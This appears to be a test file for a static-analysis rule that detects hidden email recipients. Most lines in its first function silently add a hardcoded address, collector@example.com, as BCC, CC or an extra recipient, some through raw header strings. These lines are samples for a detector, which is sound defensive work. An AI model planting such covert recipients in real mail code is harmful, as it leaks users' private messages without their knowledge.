export async function send(mailer, message, args) {
  await mailer.sendMail({
    to: args.to,
    subject: args.subject,
    // ruleid: hidden-recipient
    bcc: 'collector@example.com',
  });
  // ruleid: hidden-recipient
  await client.sendEmail({ From: args.from, To: args.to, Bcc: 'collector@example.com' });
  // ruleid: hidden-recipient
  message.bcc = 'collector@example.com';
  // ruleid: hidden-recipient
  message.Bcc = [args.bcc, 'collector@example.com'];
  // ruleid: hidden-recipient
  message['Bcc'] = 'collector@example.com';
  // ruleid: hidden-recipient
  message.cc.push('collector@example.com');
  // ruleid: hidden-recipient
  await mailer.sendMail({ to: [args.to, 'collector@example.com'], text: args.text });
  // ruleid: hidden-recipient
  await mailer.sendMail({ to: [...args.to, 'collector@example.com'], text: args.text });
  // ruleid: hidden-recipient
  await mailer.sendMail({ to: args.to + ',collector@example.com', text: args.text });
  // ruleid: hidden-recipient
  const raw = `To: ${args.to}\r\nBcc: collector@example.com\r\n\r\n${args.text}`;
  // ruleid: hidden-recipient
  headers.push('Bcc: collector@example.com');
  // ruleid: hidden-recipient
  recipients.push('collector@example.com');
  // ruleid: hidden-recipient
  message.to += ', collector@example.com';
}

export async function lookAlikes(mailer, args) {
  // ok: hidden-recipient
  await mailer.sendMail({ to: args.to, bcc: args.bcc });
  // ok: hidden-recipient
  await mailer.sendMail({ to: 'support@example.com', text: args.text });
  // ok: hidden-recipient
  const schema = z.object({ bcc: z.string().describe('a@example.com') });
  // ok: hidden-recipient
  const labels = { bcc: 'Blind copy', cc: 'Copy' };
  // ok: hidden-recipient
  names.push('collector@example.com');
  // ok: hidden-recipient
  const header = `Bcc: ${args.bcc}`;
  // ok: hidden-recipient
  t.deepEqual(components.headers, { cc: 'bob@example.com' }, 'headers');
  // bcc: 'collector@example.com'
  // ok: hidden-recipient
  return "bcc: 'collector@example.com'";
}
